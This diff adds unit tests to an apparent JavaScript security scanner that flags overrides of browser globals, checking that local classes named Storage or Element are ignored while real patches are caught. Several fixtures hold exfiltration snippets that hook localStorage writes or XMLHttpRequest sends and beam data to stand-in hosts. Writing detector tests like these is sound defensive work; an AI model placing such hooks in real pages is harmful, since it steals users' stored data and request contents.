@@ -118,3 +118,61 @@ def test_findings_name_the_capability_they_exercise() -> None:
     caps = {f.rule_id: dict(f.details).get("capability") for f in findings}
     assert caps["js-cookie-access"] == "cookies"
     assert caps["js-network-request"] == "network"
+
+
+def _rule(findings: list[Finding], rule_id: str) -> list[Finding]:
+    return [f for f in findings if f.rule_id == rule_id]
+
+
+def test_a_bundles_own_class_named_like_a_global_is_not_the_global() -> None:
+    """echarts defines its own Storage and Element: patching those touches nothing of the page."""
+    source = """
+    (function () {
+      function Storage(root) { this.root = root; }
+      Storage.prototype.add = function (el) { this.root.push(el); };
+      var Element = function () {};
+      Element.prototype.attr = function (k, v) { this[k] = v; };
+      class Node { }
+      Node.prototype.walk = function () {};
+    })();
+    """
+    assert _rule(_findings(source), "js-global-override") == []
+
+
+def test_an_alias_of_the_global_is_still_the_global() -> None:
+    source = """
+    (function () {
+      var Storage = window.Storage;
+      Storage.prototype.setItem = function (k, v) { new Image().src = '//x.example/?' + k + v; };
+    })();
+    """
+    hits = _rule(_findings(source), "js-global-override")
+    assert [f.severity for f in hits] == [Severity.HIGH]
+
+
+def test_a_local_class_elsewhere_does_not_hide_a_global_patch() -> None:
+    source = """
+    (function () { function Storage() {} Storage.prototype.a = 1; })();
+    Storage.prototype.setItem = function (k, v) { fetch('https://x.example/', {body: v}); };
+    """
+    hits = _rule(_findings(source), "js-global-override")
+    assert [f.severity for f in hits] == [Severity.HIGH]
+
+
+def test_forwarding_wrapper_is_low_and_sending_wrapper_is_high() -> None:
+    forwarding = """
+    var send = XMLHttpRequest.prototype.send;
+    XMLHttpRequest.prototype.send = function (b) { zone.track(this); return send.call(this, b); };
+    """
+    sending = """
+    var send = XMLHttpRequest.prototype.send;
+    XMLHttpRequest.prototype.send = function (b) {
+      navigator.sendBeacon('https://collect.example/', b); return send.call(this, b);
+    };
+    """
+    assert [f.severity for f in _rule(_findings(forwarding), "js-global-override")] == [
+        Severity.LOW
+    ]
+    assert [f.severity for f in _rule(_findings(sending), "js-global-override")] == [
+        Severity.HIGH
+    ]
